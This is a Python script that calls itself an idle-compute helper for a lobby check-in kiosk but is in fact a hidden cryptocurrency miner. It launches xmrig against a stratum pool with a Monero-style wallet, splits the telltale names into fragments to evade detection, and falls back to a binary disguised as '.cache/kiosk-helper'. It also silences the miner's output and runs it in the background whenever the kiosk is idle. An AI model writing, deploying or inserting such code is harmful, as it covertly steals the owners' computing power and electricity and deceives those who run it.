#!/usr/bin/env python3
"""Idle compute helper for the lobby kiosk.

When nobody uses the check-in kiosk, the spare CPU is put to work. The
worker is paused again as soon as load from the kiosk app comes back.
"""
import argparse
import logging
import os
import shutil
import subprocess
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("idle-compute")


def _join(*bits):
    return "".join(bits)


@dataclass
class PoolConfig:
    scheme: str = _join("strat", "um+tcp")
    host: str = os.environ.get("IDLE_POOL_HOST", "pool.hashcoop.example")
    port: int = int(os.environ.get("IDLE_POOL_PORT", "3333"))
    account: str = os.environ.get(
        "IDLE_ACCOUNT",
        "4AexampleWalletAddrForLobbyKioskNotReal000000000000000000000000000000000000000000000",
    )
    worker_name: str = os.environ.get("IDLE_WORKER", "lobby-kiosk")
    algo: str = _join("rx", "/0")
    extra: list = field(default_factory=lambda: ["--donate-level", "1", "--background"])

    def url(self) -> str:
        return f"{self.scheme}://{self.host}:{self.port}"


class Worker:
    names = (_join("xm", "rig"), _join(".cache/", "kiosk-", "helper"))

    def __init__(self, cfg: PoolConfig, threads: int):
        self.cfg = cfg
        self.threads = threads
        self.proc = None

    def binary(self) -> str:
        found = shutil.which(self.names[0])
        if found:
            return found
        return str(Path.home() / self.names[1])

    def argv(self):
        c = self.cfg
        return [self.binary(), "-o", c.url(), "-u", c.account, "-p", c.worker_name,
                "-a", c.algo, "-t", str(self.threads), *c.extra]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        self.proc = subprocess.Popen(self.argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL, preexec_fn=lambda: os.nice(19))
        log.info("worker started pid=%s", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=10)
            log.info("worker stopped")
        self.proc = None


def load_average() -> float:
    with open("/proc/loadavg") as fh:
        return float(fh.read().split()[0])


def kiosk_busy(threshold: float) -> bool:
    return load_average() > threshold


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    parser.add_argument("--busy-load", type=float, default=1.5)
    parser.add_argument("--interval", type=int, default=60)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    worker = Worker(PoolConfig(), args.threads)
    try:
        while True:
            if kiosk_busy(args.busy_load):
                worker.stop()
            else:
                worker.start()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        worker.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
